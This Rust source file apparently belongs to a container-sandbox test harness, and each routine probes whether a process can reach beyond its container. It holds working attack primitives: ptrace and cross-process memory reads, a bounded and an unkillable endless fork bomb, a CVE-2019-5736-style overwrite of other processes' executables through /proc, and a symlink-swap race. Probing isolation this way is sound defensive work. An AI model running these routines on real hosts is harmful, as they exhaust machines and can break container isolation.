//! Ways to processes and memory that are not the container's.

use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::Path;
use std::ptr::null;

use super::{Tried, called};

/// The attempt `name`, if it is one of these.
pub(super) fn attempt(name: &str, arguments: &[String]) -> Option<Tried> {
    let number = || arguments.first().and_then(|text| text.parse::<i32>().ok()).unwrap_or(-1);
    Some(match name {
        // SAFETY: stops and traces a process, and lets it go at this one's end.
        "trace" => called(unsafe {
            libc::ptrace(libc::PTRACE_SEIZE, number(), null::<u8>(), null::<u8>())
        }),
        "read-memory" => read_memory(number()),
        // SAFETY: asks whether there is somebody to signal.
        "signal" => called(unsafe { libc::kill(number(), 0) }.into()),
        // SAFETY: takes numbers.
        "open-process" => called(unsafe { libc::syscall(libc::SYS_pidfd_open, number(), 0) }),
        // SAFETY: takes numbers.
        "shared-memory" => called(unsafe { libc::shmget(number(), 0, 0) }.into()),
        // SAFETY: takes numbers.
        "message-queue" => called(unsafe { libc::msgget(number(), 0) }.into()),
        // SAFETY: takes nothing.
        "user" => Ok(unsafe { libc::geteuid() }.to_string()),
        "fork-bomb" => fork_bomb(),
        "endless-fork-bomb" => endless_fork_bomb(),
        "others-programs" => others_programs(arguments.first().map_or("", String::as_str)),
        "swap-links" => swap_links(arguments),
        _ => return None,
    })
}

fn read_memory(pid: i32) -> Tried {
    let mut byte = 0_u8;
    let local = libc::iovec { iov_base: (&raw mut byte).cast(), iov_len: 1 };
    let remote = libc::iovec { iov_base: std::ptr::without_provenance_mut(0x40_0000), iov_len: 1 };
    // SAFETY: the one byte is there to be written; the other address is another process'.
    let read = unsafe { libc::process_vm_readv(pid, &raw const local, 1, &raw const remote, 1, 0) };
    called(i64::try_from(read).unwrap_or(-1))
}

/// Forks until that fails, every child a sleeper, and says how many there were. What ends here
/// is what a limit of its cgroup ends.
fn fork_bomb() -> Tried {
    let mut children = Vec::new();
    let failed = loop {
        // SAFETY: a process of one thread; the child only sleeps.
        match unsafe { libc::fork() } {
            0 => loop {
                // SAFETY: waits for a signal.
                unsafe { libc::pause() };
            },
            -1 => break io::Error::last_os_error(),
            pid => children.push(pid),
        }
        if children.len() > 20_000 {
            break io::Error::other("no limit");
        }
    };
    for pid in &children {
        // SAFETY: a child that is not waited for.
        unsafe { libc::kill(*pid, libc::SIGKILL) };
    }
    Err(io::Error::other(format!("{} {}", children.len(), failed.raw_os_error().unwrap_or(-1))))
}

/// Forks for ever, in every process, each in a session of its own and deaf to whoever asks for its
/// end, and whatever the kernel says: where one of them ends, another takes its place.
fn endless_fork_bomb() -> Tried {
    for signal in [libc::SIGTERM, libc::SIGHUP] {
        // SAFETY: nothing is called on the signal.
        unsafe { libc::signal(signal, libc::SIG_IGN) };
    }
    loop {
        // SAFETY: a process of one thread; the child does what this one does.
        if unsafe { libc::fork() } == 0 {
            // SAFETY: takes nothing.
            unsafe { libc::setsid() };
        }
    }
}

/// As in CVE-2019-5736: until the file `stop` is there, opens the program of every process that
/// comes into this container, and through that descriptor opens it again to write to it.
fn others_programs(stop: &str) -> Tried {
    let own = std::process::id().to_string();
    let mut seen = std::collections::BTreeSet::new();
    let mut errors = std::collections::BTreeSet::new();
    while !Path::new(stop).exists() {
        for entry in fs::read_dir("/proc")?.filter_map(Result::ok) {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == own || name == "1" || !name.starts_with(|c: char| c.is_ascii_digit()) {
                continue;
            }
            let path = entry.path().join("exe");
            let Ok(program) = File::options().read(true).custom_flags(libc::O_PATH).open(&path)
            else {
                continue;
            };
            if is_own(&program)? {
                continue;
            }
            if seen.insert(fs::read_link(&path).unwrap_or_default().display().to_string()) {
                println!("seen");
            }
            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
            match File::options().write(true).open(&again) {
                Ok(_) => return Ok(format!("{seen:?}")),
                Err(error) => errors.insert(error.raw_os_error()),
            };
        }
    }
    Err(io::Error::other(format!("{seen:?} {errors:?}")))
}

/// Whether it is a program of this container's, as busybox is.
fn is_own(program: &File) -> io::Result<bool> {
    use std::os::unix::fs::MetadataExt as _;
    let (program, own) = (program.metadata()?, fs::metadata("/bin/busybox")?);
    Ok((program.dev(), program.ino()) == (own.dev(), own.ino()))
}

/// Until the file `stop` is there, makes a name a directory, then a link to elsewhere, and so
/// on: `STOP NAME TARGET`.
fn swap_links(arguments: &[String]) -> Tried {
    let [stop, name, target] = arguments else { return Err(io::Error::other("STOP NAME TARGET")) };
    let (inside, link) = (format!("{name}.directory"), format!("{name}.link"));
    fs::create_dir_all(&inside)?;
    fs::create_dir_all(name)?;
    std::os::unix::fs::symlink(target, &link)?;
    let exchange = |one: &str, other: &str| {
        let names = [std::ffi::CString::new(one)?, std::ffi::CString::new(other)?];
        let at = libc::AT_FDCWD;
        // SAFETY: both names end and are there until the call returns.
        called(i64::from(unsafe {
            libc::renameat2(at, names[0].as_ptr(), at, names[1].as_ptr(), libc::RENAME_EXCHANGE)
        }))
    };
    let mut swaps = 0_u64;
    while !Path::new(stop).exists() {
        exchange(name, &link)?;
        swaps += 1;
        if swaps == 2 {
            println!("swapping");
        }
    }
    Err(io::Error::other(format!("{swaps} swaps")))
}
